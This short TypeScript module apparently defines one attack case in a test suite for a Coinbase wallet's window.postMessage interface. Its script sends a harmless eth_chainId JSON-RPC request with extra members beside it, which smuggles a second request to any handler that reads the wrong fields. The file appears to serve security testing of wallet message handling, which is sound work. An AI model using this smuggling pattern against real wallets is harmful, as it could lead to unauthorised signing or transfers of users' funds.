import type { Attack } from '../Attack.ts';
import { COINBASE, COINBASE_PATH } from '../otherMakes.ts';

/** A harmless request with another beside it, for whoever reads the wrong one. */
export const attack: Attack = {
  entry: 'window.postMessage to Coinbase',
  mechanism: 'members beside the request',
  discovers: false,
  path: COINBASE_PATH,
  script: `${COINBASE}
post(Object.assign(named(kit.send()), { method: 'eth_chainId', jsonrpc: '2.0', id: 1, params: [] }));
`,
};
